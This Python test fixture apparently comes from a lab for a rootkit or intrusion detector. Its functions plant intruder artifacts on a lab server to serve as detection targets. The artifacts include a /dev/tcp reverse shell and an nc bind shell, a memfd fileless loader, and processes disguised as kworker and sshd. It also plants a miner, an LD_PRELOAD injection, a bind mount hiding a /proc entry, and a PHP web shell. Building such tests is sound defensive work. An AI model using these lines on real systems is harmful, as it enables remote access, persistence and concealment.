"""Processes and sockets that an intruder leaves running."""

import subprocess
import sys
from pathlib import Path

from tests.lab.network import ATTACKER
from tests.lab.planted.tools import plant, program, settle, start, text
from tests.lab.server import Server

SILENT = Path(__file__).with_name("silent.py")


@plant(live=True)
def deleted_program(server: Server) -> str:
    pid = start(server, program(server, "/var/tmp/.a/one"))
    settle(server, pid, "/var/tmp/.a/one")
    server.shell("rm -r /var/tmp/.a")
    return pid


@plant(live=True)
def program_in_memory(server: Server) -> str:
    path = program(server, "/root/stage")
    loader = (
        "import os,sys; file = os.memfd_create('x', 0); "
        f"os.write(file, open('{path}', 'rb').read()); os.execve(file, ['/usr/sbin/cron'], {{}})"
    )
    pid = start(server, f'python3 -c "{loader}"')
    settle(server, pid, "memfd:")
    server.shell(f"rm {path}")
    return pid


@plant(live=True)
def program_in_shared_memory(server: Server) -> str:
    return start(server, program(server, "/dev/shm/two"))


@plant(live=True)
def kernel_thread_masquerade(server: Server) -> str:
    path = program(server, "/usr/lib/three")
    return start(server, f"bash -c 'exec -a \"[kworker/2:1-events]\" {path}'")


@plant(live=True)
def daemon_masquerade(server: Server) -> str:
    path = program(server, "/usr/local/lib/.four/sshd")
    return start(server, f"bash -c 'exec -a \"sshd: root@pts/0\" {path}'")


@plant(live=True)
def reverse_shell(server: Server) -> str:
    port = _silence(server)
    line = f"exec 5<>/dev/tcp/{ATTACKER}/{port}; exec bash -i <&5 >&5 2>&5"
    return start(server, f"bash -c '{line}'")


@plant(live=True)
def bind_shell(server: Server) -> str:
    return start(server, "nc.traditional -l -p 40404 -e /bin/sh")


@plant(live=True)
def unpackaged_listener(server: Server) -> str:
    path = program(server, "/usr/local/share/five")
    return start(server, path, role="listen", port=50505)


@plant(live=True)
def miner(server: Server) -> str:
    path = program(server, "/var/lib/games/six")
    words = f"-o stratum+tcp://{ATTACKER}:3333 -u {'4' * 95} --donate-level=1 -k"
    port = _silence(server, 3333)
    return start(server, f"{path} {words}", role="connect", port=port, address=ATTACKER)


@plant(live=True)
def sniffer(server: Server) -> str:
    return start(server, program(server, "/opt/seven"), role="sniff")


@plant(live=True)
def preload_in_environment(server: Server) -> str:
    library = server.root / "var/tmp/libeight.so"
    source = server.folder / "empty.c"
    source.write_text("int rootout_lab_eight;\n")
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", str(library), str(source)], check=True)
    return start(server, "env LD_PRELOAD=/var/tmp/libeight.so sleep 900")


@plant(live=True)
def mount_over_a_process(server: Server) -> str:
    pid = start(server, program(server, "/usr/local/lib/nine"))
    settle(server, pid, "/usr/local/lib/nine")
    server.shell(f"mkdir -p /run/empty && mount --bind /run/empty /proc/{pid.partition(':')[2]}")
    return pid


@plant(live=True)
def shell_of_the_web_server(server: Server) -> str:
    text(server, "/srv/www/ten.php", "<?php system('/bin/sh -c \"sleep 900; true\" &');\n")
    server.fetch("/ten.php")
    look = "pgrep -u www-data -f ^/bin/sh.*sleep | head -1"
    wait = f"for turn in $(seq 100); do pid=$({look}); [ $pid ] && break; sleep 0.1; done"
    return f"pid:{server.shell(f'{wait}; echo $pid').strip()}"


def _silence(server: Server, port: int = 0) -> int:
    """Listen as the attacker, outside, and say nothing."""
    program = [sys.executable, str(SILENT), ATTACKER, str(port)]
    attacker = subprocess.Popen(server.outside.command(*program), stdout=subprocess.PIPE)
    server.closing.callback(attacker.communicate)
    server.closing.callback(attacker.kill)
    assert attacker.stdout is not None
    return int(attacker.stdout.readline())
